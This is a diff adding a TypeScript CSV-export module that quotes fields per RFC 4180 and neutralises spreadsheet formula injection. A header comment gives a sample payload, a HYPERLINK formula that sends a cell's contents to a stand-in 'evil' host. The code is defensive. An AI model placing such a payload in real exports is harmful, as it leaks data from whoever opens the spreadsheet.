@@ -1,0 +1,51 @@
+/**
+ * CSV cells for exports: RFC 4180 quoting plus spreadsheet formula neutralization.
+ *
+ * Every text field of a request came from an attacker. A spreadsheet that opens a CSV evaluates
+ * a cell that begins with `=`, `+`, `-` or `@` (and some also after a leading tab or carriage
+ * return), so `=HYPERLINK("http://evil/?"&A1)` would run on the investigator's machine. Such a
+ * cell is written with a single quote in front; spreadsheets show the quote, never evaluate.
+ *
+ * The neutralization is reversible: a cell that already begins with quotes followed by one of
+ * those characters gets one more quote too, so `unNeutralizeCell` (drop one leading quote when
+ * quotes are followed by a trigger character) gives back exactly the original text. Sessionscope's
+ * own CSV importer stores cells as read, quote included; apply `unNeutralizeCell` to a text field
+ * of a re-imported export to get the original value (the round-trip test does).
+ */
+
+/** A cell whose text, after any leading quotes, starts with one of these is neutralized. */
+const NEEDS_QUOTE_PREFIX = /^'*[=+\-@\t\r]/;
+const NEUTRALIZED = /^'+[=+\-@\t\r]/;
+/** RFC 4180: a field with a quote, comma or line break is quoted; edge spaces too, so no reader trims them. */
+const NEEDS_CSV_QUOTES = /[",\r\n]|^\s|\s$/;
+
+export function neutralizeFormula(text: string): string {
+  return NEEDS_QUOTE_PREFIX.test(text) ? `'${text}` : text;
+}
+
+/** The inverse of neutralizeFormula, for every string. */
+export function unNeutralizeCell(text: string): string {
+  return NEUTRALIZED.test(text) ? text.slice(1) : text;
+}
+
+/** RFC 4180 quoting of one field, without neutralization. */
+export function quoteCsvField(text: string): string {
+  return NEEDS_CSV_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
+}
+
+/**
+ * One cell. null (absent) is an empty field and '' is `""`, so the two stay apart. Numbers are
+ * written as numbers: a JavaScript number's text cannot be a formula, and a negative latency
+ * must stay a number.
+ */
+export function csvCell(value: string | number | null): string {
+  if (value === null) return '';
+  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
+  if (value === '') return '""';
+  return quoteCsvField(neutralizeFormula(value));
+}
+
+/** One record, ended by CRLF as RFC 4180 says. */
+export function csvRow(values: readonly (string | number | null)[]): string {
+  return values.map(csvCell).join(',') + '\r\n';
+}
